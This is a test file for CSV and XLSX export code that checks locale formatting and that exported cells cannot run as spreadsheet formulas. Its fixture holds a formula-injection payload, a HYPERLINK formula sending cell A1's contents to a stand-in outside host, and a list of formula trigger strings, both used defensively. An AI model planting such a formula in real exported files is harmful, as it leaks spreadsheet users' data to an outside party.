import { PassThrough } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import readXlsx from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { day } from '@/lib/accord/calendar/day.ts'
import { csvCell, csvWriter, harmless } from '@/lib/exchange/csv.ts'
import type { Cell, ColumnHead } from '@/lib/exchange/sheet.ts'
import { xlsxWriter } from '@/lib/exchange/xlsx.ts'

const columns: readonly ColumnHead[] = [
  { key: 'name', header: 'Personne', type: 'text' },
  { key: 'start', header: 'Début', type: 'day' },
  { key: 'count', header: 'Nombre', type: 'number' },
  { key: 'amount', header: 'Montant', type: 'amount' },
  { key: 'closed', header: 'Clos', type: 'boolean' },
]
const FORMULA = '=HYPERLINK("https://ailleurs.example/?"&A1;"Cliquez")'
const rows: readonly (readonly Cell[])[] = [
  [FORMULA, day('2026-03-29'), 12, '-1234.50', true],
  ['Cœur-d’Étoile; « Zoé »\n"dite" 🙂', day('1900-03-01'), -0.5, '0.10', false],
  [null, null, null, null, null],
]
const about = { title: 'À propos', lines: [['Filtre', '=1+1'], ['Lignes', '3']] as const }

async function csv(locale: 'fr' | 'en'): Promise<Buffer> {
  const out = new PassThrough()
  const written = buffer(out)
  const writer = csvWriter(out, columns, locale)
  await writer.rows(rows)
  await writer.end(about)
  return written
}

/** Reads back what RFC 4180 says, with semicolons; written from the RFC, not from our writer. */
function parsed(text: string): string[][] {
  const lines: string[][] = [[]]
  let at = 0
  while (at < text.length) {
    let field = ''
    if (text[at] === '"') {
      at += 1
      for (;;) {
        if (text[at] === '"' && text[at + 1] === '"') at += 1
        else if (text[at] === '"') break
        field += text[at]
        at += 1
      }
      at += 1
    } else while (at < text.length && text[at] !== ';' && text[at] !== '\r') field += text[at++]
    lines.at(-1)!.push(field)
    if (text[at] === ';') at += 1
    else {
      if (!text.startsWith('\r\n', at)) throw new Error(`no end of line at ${at}`)
      at += 2
      if (at < text.length) lines.push([])
    }
  }
  return lines
}

describe('CSV', () => {
  test('opens in a spreadsheet: its mark, semicolons, quotes, days as days, and nothing that runs', async () => {
    const bytes = await csv('fr')
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(parsed(bytes.subarray(3).toString('utf8'))).toEqual([
      ['Personne', 'Début', 'Nombre', 'Montant', 'Clos'],
      [`'${FORMULA}`, '2026-03-29', '12', '-1234,50', 'Oui'],
      ['Cœur-d’Étoile; « Zoé »\n"dite" 🙂', '1900-03-01', '-0,5', '0,10', 'Non'],
      ['', '', '', '', ''],
    ])
  })

  test('writes a decimal point for who reads English', () => {
    expect(csvCell('-1234.50', { type: 'amount' }, 'en')).toBe('-1234.50')
    expect(csvCell(true, { type: 'boolean' }, 'en')).toBe('Yes')
  })

  test('an export of nothing has its head', async () => {
    const out = new PassThrough()
    const written = buffer(out)
    await csvWriter(out, columns, 'fr').end(about)
    expect((await written).toString('utf8')).toBe('\uFEFFPersonne;Début;Nombre;Montant;Clos\r\n')
  })

  test.each(['=1+1', '+33 6 12 34 56 78', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '  =1+1', '＝1＋1', '－1', '＋1', '＠A'])('%j cannot run', (text) => {
    expect(harmless(text)).toBe(`'${text}`)
  })
  test.each(['Jean-Noël', 'O’Brien = 2', '12 rue', '', ' a', '\'=1'])('%j stays as it is', (text) => {
    expect(harmless(text)).toBe(text)
  })
})

describe('XLSX', () => {
  async function book(): Promise<Buffer> {
    const out = new PassThrough()
    const written = buffer(out)
    const writer = await xlsxWriter(out, 'Dossiers [2026]: a/b', columns, 'fr')
    await writer.rows(rows)
    await writer.end(about)
    return written
  }

  test('another library reads days as days, amounts as numbers, texts as texts', async () => {
    const sheets = await readXlsx(await book())
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['Dossiers  2026   a b', 'À propos'])
    const [head, first, second] = sheets[0]!.data
    expect(head).toEqual(['Personne', 'Début', 'Nombre', 'Montant', 'Clos'])
    expect(first).toEqual([FORMULA, new Date('2026-03-29T00:00:00Z'), 12, -1234.5, 'Oui'])
    expect(second).toEqual(['Cœur-d’Étoile; « Zoé »\n"dite" 🙂', new Date('1900-03-01T00:00:00Z'), -0.5, 0.1, 'Non'])
    expect(sheets[1]!.data).toEqual([['Filtre', '=1+1'], ['Lignes', 3]].map(([what, said]) => [what, String(said)]))
  })

  test('holds no formula, and its head stays in sight', async () => {
    const { default: ExcelJS } = await import('exceljs')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await book()) as unknown as ArrayBuffer)
    const sheet = workbook.worksheets[0]!
    const types = new Set<number>()
    for (const each of workbook.worksheets) each.eachRow((row) => row.eachCell((cell) => types.add(cell.type)))
    expect(types.has(ExcelJS.ValueType.Formula)).toBe(false)
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 })
    expect(sheet.getCell('B2').value).toEqual(new Date('2026-03-29T00:00:00Z'))
    expect(sheet.getCell('D2').numFmt).toContain('€')
  })
})
